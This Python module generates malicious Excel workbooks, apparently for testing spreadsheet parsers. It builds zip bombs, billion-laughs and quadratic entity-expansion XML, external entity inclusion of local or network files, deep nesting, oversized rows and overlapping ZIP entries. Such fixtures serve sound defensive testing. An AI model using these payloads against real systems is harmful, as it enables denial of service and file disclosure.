"""Workbooks that somebody made to hurt whoever opens them: small as files, endless as what they unpack to or expand to.

A workbook is an archive of XML. Every attack here is put into each part that a reader has to open.
"""

import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from io import BytesIO
from itertools import repeat
from zipfile import ZIP_DEFLATED, ZipFile

MIB = 1024**2
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
STYLES, TYPES = "xl/styles.xml", "[Content_Types].xml"
PARTS = (SHEET, STRINGS, BOOK, STYLES, TYPES)
DECLARATION = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def with_parts(whole: bytes, changed: Mapping[str, Callable[[bytes], Iterator[bytes]]]) -> bytes:
    """A copy of a workbook in which these parts are what the functions make of them, piece by piece."""
    out = BytesIO()
    with ZipFile(BytesIO(whole)) as source, ZipFile(out, "w", ZIP_DEFLATED, compresslevel=1) as target:
        for name in source.namelist():
            pieces = changed[name](source.read(name)) if name in changed else iter((source.read(name),))
            with target.open(name, "w") as part:
                for piece in pieces:
                    part.write(piece)
    return out.getvalue()


def unpacking_to(mebibytes: int) -> Callable[[bytes], Iterator[bytes]]:
    """The part, and behind it so many MiB of blanks, which pack to a thousandth."""

    def padded(content: bytes) -> Iterator[bytes]:
        yield content
        yield from repeat(b" " * MIB, mebibytes)

    return padded


def laughing(content: bytes) -> Iterator[bytes]:
    """The part with ten entities, each ten of the one before: a billion laughs, by the name that the attack has."""
    entities = b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"laugh " * 10) for n in range(10)
    )
    yield _with_entities(content, entities, b"&l9;")


def repeating_one_long(content: bytes) -> Iterator[bytes]:
    """The part with one long entity, said ten thousand times: what bounds on nesting do not see."""
    yield _with_entities(content, b'<!ENTITY l "%s">' % (b"x" * 100_000), b"&l;" * 10_000)


def including(address: str) -> Callable[[bytes], Iterator[bytes]]:
    """The part with the file at this address in it, as an entity of the reader's own machine or network."""

    def included(content: bytes) -> Iterator[bytes]:
        yield _with_entities(content, b'<!ENTITY l SYSTEM "%s">' % address.encode(), b"&l;")

    return included


def _with_entities(content: bytes, entities: bytes, said: bytes) -> bytes:
    """The document type before the first element, and the entity within the first text, or else the first element."""
    body = content.partition(b"?>")[2].lstrip()
    at = body.find(b"<t>") + 3 if b"<t>" in body else body.find(b">") + 1
    return DECLARATION + b"<!DOCTYPE x [%s]>" % entities + body[:at] + said + body[at:]


def nested(depth: int) -> Callable[[bytes], Iterator[bytes]]:
    """The part with so many elements within each other, in its first element."""

    def deep(content: bytes) -> Iterator[bytes]:
        head, end = content.partition(b"?>")[::2]
        start, rest = end.lstrip().partition(b">")[::2]
        yield head + b"?>" + start + b">" + b"<a>" * depth + b"</a>" * depth + rest

    return deep


def wide(columns: int) -> Callable[[bytes], Iterator[bytes]]:
    """A sheet with one row of so many cells, which say no place."""

    def widened(content: bytes) -> Iterator[bytes]:
        head = content.partition(b"<sheetData")[0]
        yield head + b'<sheetData><row r="1">' + b"<c><v>1</v></c>" * columns + b"</row></sheetData></worksheet>"

    return widened


def overlapping(whole: bytes, entries: int, mebibytes: int) -> bytes:
    """An archive whose list names one and the same packed bytes so many times, under so many names."""
    with ZipFile(BytesIO(whole)) as source:
        parts = [(name, source.read(name)) for name in source.namelist()]
    content, listed = bytearray(), bytearray()
    for name, plain in parts:
        offset = len(content)
        content += _local(name, plain)
        listed += _central(name, plain, offset)
    kernel = b" " * (mebibytes * MIB)
    offset = len(content)
    content += _local("xl/k", kernel)
    entry = _central("xl/k", kernel, offset)
    for n in range(entries):
        renamed = bytearray(entry[:46] + b"xl/k%06d" % n)
        renamed[28:30] = struct.pack("<H", 10)
        listed += renamed
    n = len(parts) + entries
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, n, n, len(listed), len(content), 0)
    return bytes(content + listed + end)


def _packed(plain: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(plain) + packer.flush()


def _local(name: str, plain: bytes) -> bytes:
    packed = _packed(plain)
    sizes = (zlib.crc32(plain), len(packed), len(plain), len(name), 0)
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes) + name.encode() + packed


def _central(name: str, plain: bytes, offset: int) -> bytes:
    sizes = (zlib.crc32(plain), len(_packed(plain)), len(plain), len(name), 0, 0, 0, 0, 0)
    return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes, offset) + name.encode()
